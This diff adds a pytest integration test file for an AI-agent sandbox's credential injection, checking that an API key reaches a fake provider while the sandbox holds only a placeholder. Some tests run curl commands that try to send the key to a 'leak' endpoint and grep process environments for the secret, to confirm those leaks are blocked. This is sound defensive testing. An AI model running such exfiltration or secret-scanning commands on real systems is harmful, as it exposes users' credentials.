@@ -1,0 +1,196 @@
+# SPDX-License-Identifier: GPL-3.0-or-later
+"""Provider keys injected outside the sandbox, with real traffic: a fake model provider in
+the test internet serves HTTPS with a test CA that the workstation (the session's
+injector) trusts and the sandbox does not; it logs the headers it gets."""
+
+import base64
+import json
+import re
+import subprocess
+import tempfile
+import time
+import uuid
+from pathlib import Path
+
+import pytest
+
+import certificates
+from scenario import ANSIBLE_ENV, operator_vars
+from workstation import TRANSFER_DIR
+
+PROJECT = "/home/dev/src/credentials"
+PROVIDER, PROVIDER_PORT = "models.test", 9443
+ANSWER = "FAKE-MODEL-ANSWER-" + uuid.uuid4().hex[:8]
+KEY = "sk-aisb-real-" + uuid.uuid4().hex
+BUNDLE = "/etc/ssl/certs/ca-certificates.crt"
+HERE = Path(__file__).resolve().parents[1] / "workstation"
+# Searched for inside the sandbox without the key on any command line or in any file
+# there: the pattern comes through a pipe (bash's process substitution), decoded there.
+PATTERN = f'<(printf %s {base64.b64encode(KEY.encode()).decode()} | base64 -d)'
+SEARCH = (f"echo environ-hits-begin; grep -l -s -F -f {PATTERN} /proc/[0-9]*/environ; echo environ-hits-end; "
+          f"echo fs-hits-begin; grep -r -l -s -F --exclude-dir=proc --exclude-dir=sys -f {PATTERN} / /project; "
+          "echo fs-hits-end")
+
+
+def credential(source, **extra):
+    entry = {"host": PROVIDER, "port": PROVIDER_PORT, "header": "x-api-key", "variable": "ANTHROPIC_API_KEY"}
+    entry.update(source)
+    entry.update(extra)
+    return entry
+
+
+def session_argv(ws, credentials, *extra, command=None, prompt=None):
+    argv = ["ansible-playbook", "aisb.sandbox.run_agent", "-e", operator_vars(ws), "-e", f"project={PROJECT}",
+            "-e", json.dumps({"aisb_credentials": credentials})]
+    if command is not None:
+        argv += ["-e", json.dumps({"command": command})]
+    if prompt is not None:
+        argv += ["-e", f"prompt={prompt}"]
+    return argv + list(extra)
+
+
+def run(ws, credentials, *extra, env=None, **kwargs):
+    return ws.run(session_argv(ws, credentials, *extra, **kwargs), check=False, env=dict(ANSIBLE_ENV, **(env or {})),
+                  timeout=600)
+
+
+def record_of(ws, output):
+    path = re.search(r"record (\S+/record\.json)", output) or re.search(r'"record": "([^"]+)"', output)
+    assert path, output[-3000:]
+    return ws.path(path.group(1)).read_text()
+
+
+def between(text, name):
+    return re.search(f"^{name}-begin$(.*?)^{name}-end$", text, re.M | re.S).group(1).split()
+
+
+@pytest.fixture(scope="module")
+def provider(workstation, internet):
+    """The fake provider at models.test:9443 in the test internet's namespace, its CA
+    added to the workstation's bundle (not to /usr/local/share/ca-certificates, from which
+    the images take their anchors: an image change would rebuild them)."""
+    ws, work = workstation, f"{TRANSFER_DIR}/provider"
+    ws.path(f"{TRANSFER_DIR}/fake_provider.py").write_text((HERE / "fake_provider.py").read_text())
+    bundle = ws.path(BUNDLE).read_text()
+    hosts = ws.path("/etc/hosts").read_text()
+    log = f"{work}/requests.log"
+    ws.sh(f"""
+        mkdir -p {work} && cd {work}
+        {certificates.script(PROVIDER)}
+        cat ca.crt >>{BUNDLE}
+        echo '{internet.address} {PROVIDER}' >>/etc/hosts
+        : >{log}
+        ip netns exec {internet.netns} setsid python3 {TRANSFER_DIR}/fake_provider.py {internet.address} \\
+          {PROVIDER_PORT} server.crt server.key {log} {ANSWER} >ready 2>&1 &
+        echo $! >pid
+        for _ in $(seq 50); do grep -q ready ready && break; sleep 0.1; done
+        grep -q ready ready
+    """, user="root")
+    ws.sh(f"mkdir -p {PROJECT} && echo 'print(1)' >{PROJECT}/main.py")
+
+    class Provider:
+        @staticmethod
+        def requests():
+            return [json.loads(line) for line in ws.path(log).read_text().splitlines()]
+
+    yield Provider
+    ws.run(["sh", "-c", f"kill $(cat {work}/pid)"], user="root", check=False)
+    ws.path(BUNDLE).write_text(bundle)
+    ws.path("/etc/hosts").write_text(hosts)
+
+
+def host_argv_lines(ws):
+    return ws.run(["ps", "-e", "-ww", "-o", "args="], user="root", check=False).stdout
+
+
+def test_the_provider_gets_the_key_and_the_sandbox_only_a_placeholder(workstation, provider):
+    before = len(provider.requests())
+    url = f'"$AISB_CREDENTIAL_PROXY/{PROVIDER}:{PROVIDER_PORT}/v1/echo"'
+    script = ('curl -sS -H "authorization: Bearer $ANTHROPIC_API_KEY" -H "x-api-key: sent-by-the-agent" ' + url + '; '
+              # Without the session's placeholder the injector relays nothing.
+              'curl -s -o /dev/null -w "without=%{http_code}\\n" -H "authorization: Bearer guessed" ' + url + '; '
+              'echo "placeholder=$ANTHROPIC_API_KEY"; ' + SEARCH + "; sleep 4")
+    # The natural setup: the key in the caller's ANTHROPIC_API_KEY, which the pi recipe
+    # would otherwise pass through as it is.
+    argv = session_argv(workstation, [credential({"from_environment": "ANTHROPIC_API_KEY"},
+                                                 header="authorization", prefix="Bearer ")],
+                        "-vvv", command=["bash", "-c", script])
+    # Its output to a file: -vvv would fill a pipe nobody reads while the session runs.
+    with tempfile.TemporaryFile("w+") as out:
+        session = subprocess.Popen(workstation.command(argv, env=dict(ANSIBLE_ENV, ANTHROPIC_API_KEY=KEY)),
+                                   stdout=out, stderr=subprocess.STDOUT, text=True)
+        seen_argv = ""
+        while session.poll() is None:
+            seen_argv += host_argv_lines(workstation)
+            time.sleep(0.3)
+        out.seek(0)
+        output = out.read()
+    assert session.returncode == 0, output[-4000:]
+    assert "aisb-sandbox-" in seen_argv, "the session's commands were seen while it ran"
+    assert KEY not in seen_argv, "the key is on a host command line"
+    record = record_of(workstation, output)
+    transcript = workstation.path(json.loads(record)["transcript"]).read_text()
+    assert "fake provider saw /v1/echo" in transcript, transcript[-3000:]
+    placeholder = re.search(r"^placeholder=(\S+)$", transcript, re.M).group(1)
+    assert placeholder != KEY and placeholder
+    assert between(transcript, "environ-hits") == [], "the key is in a sandbox process's environment"
+    assert between(transcript, "fs-hits") == [], "the key is in a file the sandbox can read"
+    got = provider.requests()[before:]
+    assert len(got) == 1, got
+    headers = dict((k.lower(), v) for k, v in got[0]["headers"])
+    assert headers["authorization"] == "Bearer " + KEY
+    assert headers["x-api-key"] == "sent-by-the-agent"  # another header: passed as sent
+    assert not any(placeholder in v for _k, v in got[0]["headers"])
+    assert "without=403" in transcript
+    for where, text in (("record", record), ("transcript", transcript), ("ansible output", output)):
+        assert KEY not in text, "the key is in the " + where
+    injected = json.loads(record)["credentials"]["injected"]
+    assert [(e["host"], e["status"]) for e in injected] == [(f"{PROVIDER}:{PROVIDER_PORT}", 200)]
+
+
+def test_the_placeholder_sent_elsewhere_is_refused_and_recorded(workstation, internet, provider):
+    before = len(internet.requests())
+    script = ('for h in "x-api-key: $ANTHROPIC_API_KEY" "Authorization: Bearer $ANTHROPIC_API_KEY"; do '
+              'curl -s -o /dev/null -w "elsewhere=%{http_code}\\n" -H "$h" http://allowed.test/leak; done; '
+              'curl -s -o /dev/null -w "url=%{http_code}\\n" "http://allowed.test/leak?k=$ANTHROPIC_API_KEY"; '
+              'curl -s -o /dev/null -w "clean=%{http_code}\\n" http://allowed.test/clean')
+    result = run(workstation, [credential({"value": KEY})], "-e", json.dumps({"aisb_allow": ["allowed.test"]}),
+                 command=["bash", "-c", script])
+    assert result.returncode == 0, result.stdout[-4000:]
+    record = json.loads(record_of(workstation, result.stdout))
+    transcript = workstation.path(record["transcript"]).read_text()
+    assert re.findall(r"^(\w+)=(\d+)$", transcript, re.M) == [
+        ("elsewhere", "403"), ("elsewhere", "403"), ("url", "403"), ("clean", "200")], transcript
+    assert [r["path"] for r in internet.requests()[before:]] == ["/clean"]
+    elsewhere = record["credentials"]["elsewhere"]
+    assert len(elsewhere) == 3 and all("allowed.test/leak" in e["url"] for e in elsewhere), elsewhere
+
+
+def test_a_key_from_a_file_only_the_user_can_read(workstation, provider):
+    path = "/home/dev/.provider-key"
+    workstation.run(["sh", "-c", f"umask 077 && printf '%s\\n' {KEY} >{path}"])
+    script = f'curl -sS -H "x-api-key: $ANTHROPIC_API_KEY" "$AISB_CREDENTIAL_PROXY/{PROVIDER}:{PROVIDER_PORT}/f"'
+    before = len(provider.requests())
+    result = run(workstation, [credential({"from_file": path})], command=["bash", "-c", script])
+    assert result.returncode == 0, result.stdout[-4000:]
+    got = provider.requests()[before:]
+    assert [dict((k.lower(), v) for k, v in r["headers"])["x-api-key"] for r in got] == [KEY]
+
+    workstation.run(["chmod", "0640", path])
+    result = run(workstation, [credential({"from_file": path})], command=["true"])
+    assert result.returncode != 0
+    assert "aisb_credentials[0]" in result.stdout and "group or others" in result.stdout, result.stdout[-3000:]
+    assert KEY not in result.stdout
+
+
+def test_pi_answers_through_the_injecting_path(workstation, provider):
+    before = len(provider.requests())
+    result = run(workstation, [credential({"from_environment": "AISB_TEST_PROVIDER_KEY"})],
+                 env={"AISB_TEST_PROVIDER_KEY": KEY}, prompt="Say the answer.")
+    record = json.loads(record_of(workstation, result.stdout))
+    transcript = workstation.path(record["transcript"]).read_text()
+    assert result.returncode == 0, result.stdout[-3000:] + transcript[-3000:]
+    assert ANSWER in transcript, transcript[-3000:]
+    got = provider.requests()[before:]
+    assert got and all(r["path"].startswith("/v1/messages") for r in got), got
+    assert all(dict((k.lower(), v) for k, v in r["headers"])["x-api-key"] == KEY for r in got)
